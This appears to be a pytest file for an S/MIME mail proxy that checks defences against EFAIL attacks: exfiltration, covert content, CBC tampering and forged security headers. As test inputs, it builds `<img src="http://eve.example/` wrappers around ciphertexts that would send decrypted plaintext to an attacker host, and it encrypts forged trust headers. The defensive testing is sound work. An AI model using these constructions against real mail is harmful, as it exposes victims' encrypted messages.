"""EFAIL and its kin: no ciphertext is opened where its plaintext could leave or be glued to.

Poddebniak et al. 2018 (direct exfiltration, malleability), Müller et al. 2019 (covert content),
RFC 8551 2.7 and 6, RFC 9787 4 (errant layers); E10, E11, E12.
"""

import pytest

from smime_proxy.message.parse import parse
from smime_proxy.smime.classify import ENCRYPTED
from tests.unit.cms import made
from tests.unit.smime.cases import (
    clear,
    cms,
    compressed,
    delivered,
    enveloped,
    fields,
    key,
    message,
    opaque,
    received,
    verdict,
)

CANARY = b"canary-of-the-plaintext"
SECRET = b"Content-Type: text/plain\r\n\r\n" + CANARY + b"\r\n"
MULTIPARTS = ["mixed", "related", "alternative", "digest", "report", "x-unknown"]


def multipart(kind: str, *parts: bytes) -> bytes:
    body = b"".join(b"--m\r\n" + part + b"\r\n" for part in parts)
    return f"Content-Type: multipart/{kind}; boundary=m\r\n\r\n".encode() + body + b"--m--\r\n"


def html(text: bytes) -> bytes:
    return b"Content-Type: text/html\r\n\r\n" + text + b"\r\n"


def stays_closed(entity: bytes) -> None:
    """Check that a message is delivered as it came and that its ciphertext was only listed."""
    content = message(entity)
    out = delivered(content, key())
    assert out.endswith(b"\r\n" + content)
    assert CANARY not in out
    found = received(content, key())
    assert found.opened.payload is None
    assert [layer for layer in found.report.layers if layer.partial]
    assert not any(layer.decrypted for layer in found.report.layers)
    assert found.report.encryption == "none"


@pytest.mark.parametrize("kind", MULTIPARTS)
@pytest.mark.parametrize("place", [0, 1, 2])
def test_e10_direct_exfiltration_around_a_ciphertext_opens_nothing(kind: str, place: int) -> None:
    """E10, A09: `<img src="http://eve/` before it and `">` behind it, wherever it stands."""
    around = [html(b'<img src="http://eve.example/'), html(b'">')]
    around.insert(place, enveloped(SECRET))
    stays_closed(multipart(kind, *around))


def test_e10_a_lone_ciphertext_below_a_multipart_is_not_the_whole_body() -> None:
    """E10: even with nothing beside it, and at any depth."""
    stays_closed(multipart("mixed", enveloped(SECRET)))
    inner = multipart("related", enveloped(SECRET)).replace(b"boundary=m", b"boundary=i")
    stays_closed(multipart("mixed", html(b"x"), inner.replace(b"--m", b"--i")))


def test_e10_a_ciphertext_reused_in_a_reply_stays_closed() -> None:
    """E10, A09: covert content, hidden by CSS below an innocent question, quoted by the victim."""
    question = html(b"<p>When do we meet?</p><div style='display:none'>")
    stays_closed(multipart("mixed", question, enveloped(SECRET), html(b"</div>")))
    named = enveloped(SECRET).replace(b"pkcs7-mime", b"octet-stream")
    stays_closed(multipart("mixed", question, named))
    inline = enveloped(SECRET).replace(b"attachment", b"inline")
    stays_closed(multipart("mixed", question, inline))


@pytest.mark.parametrize("around", [clear, opaque, enveloped, compressed])
def test_e10_a_layer_of_the_attacker_around_it_opens_no_part(around: object) -> None:
    """E10: he can sign, compress, and encrypt to the victim himself."""
    assert callable(around)
    glued = multipart("mixed", html(b'<img src="'), enveloped(SECRET), html(b'">'))
    content = message(around(glued))
    assert CANARY not in delivered(content, key())
    (partial,) = [item for item in received(content, key()).report.layers if item.partial]
    assert partial.protection in ENCRYPTED
    assert not partial.decrypted


def test_e10_an_attached_message_is_not_looked_into() -> None:
    """E10, E61: forwarding a ciphertext shows nothing of it."""
    for inner in (message(enveloped(SECRET)), message(clear(enveloped(SECRET)))):
        attached = b"Content-Type: message/rfc822\r\n\r\n" + inner
        for entity in (attached, multipart("mixed", attached), multipart("digest", inner)):
            content = message(entity)
            assert delivered(content, key()).endswith(b"\r\n" + content)


def test_e10_a_wrapped_message_inside_an_encryption_opens_no_further_layer() -> None:
    """E10, E41: a ciphertext of the victim below a message of the attacker."""
    stolen = message(enveloped(SECRET))
    content = message(enveloped(b"Content-Type: message/rfc822; forwarded=no\r\n\r\n" + stolen))
    assert CANARY not in delivered(content, key())


def test_e11_a_ciphertext_that_was_altered_is_never_called_authentic() -> None:
    """E11: CBC can be rewritten in place, so decrypted and unsigned says nothing of the sender."""
    cek = bytes(range(32))
    whole = made.encrypted_content(SECRET + b"x" * 64, cek)
    for at in range(len(whole) - 100, len(whole) - 40, 7):
        altered = whole[:at] + bytes((whole[at] ^ 1,)) + whole[at + 1 :]
        content = message(cms(made.enveloped_data(made.ktri(cek), encrypted=altered)))
        found = fields(content, key())
        assert found["X-SMIME-Signature"] == "none"
        assert found["X-SMIME-Badge"] == "none"
        assert "authenticated=yes" not in found["X-SMIME-Encryption"]


def test_e11_a_signature_around_a_ciphertext_does_not_make_it_authentic() -> None:
    """E11, E18: whoever strips a signature and signs himself need not know what is inside."""
    content = message(clear(enveloped(SECRET)))
    assert verdict(content, key()) == "policy: the signature is only around a ciphertext"
    assert "authenticated=no" in fields(content, key())["X-SMIME-Encryption"]


def test_e12_every_failure_to_decrypt_gives_the_same_octets() -> None:
    """E12: wrong padding, a wrong key and plaintext that is no MIME are not told apart."""
    cek = bytes(range(32))
    deep = b"".join(
        b"Content-Type: multipart/mixed; boundary=%d\r\n\r\n--%d\r\n" % (n, n) for n in range(60)
    )
    bodies = (
        made.enveloped_data(
            made.ktri(cek), encrypted=made.encrypted_content(b"x" * 32, cek, padded=False)
        ),
        made.enveloped_data(
            made.ktri(cek, encrypted=b"\1" * 256), encrypted=made.encrypted_content(SECRET, cek)
        ),
        made.enveloped_data(made.ktri(cek), encrypted=made.encrypted_content(deep, cek)),
    )
    told = set()
    for body in bodies:
        content = message(cms(body))
        out = delivered(content, key())
        assert out.endswith(content)
        told.add(out.removesuffix(content))
    assert len(told) == 1


def test_e07_what_comes_out_of_a_ciphertext_carries_no_field_of_ours() -> None:
    """E07: an attacker can encrypt whatever header he likes to the victim."""
    forged = (
        b'Content-Type: text/plain; hp="cipher"\r\nSubject: x\r\nX-SMIME-Badge: green\r\n'
        b"X-SMIME-Signature: pass\r\nX-SMIME-Lock: green\r\nSensitivity: Public\r\n"
        b"Authentication-Results: proxy.example.test; smime=pass\r\n\r\nhi\r\n"
    )
    header = parse(delivered(message(enveloped(forged)), key())).header
    assert [item.value for item in header.find("x-smime-badge")] == ["none"]
    assert [item.value for item in header.find("x-smime-signature")] == ["none"]
    assert [item.value for item in header.find("sensitivity")] == ["Private"]
    (result,) = header.find("authentication-results")
    assert "smime=none" in result.value
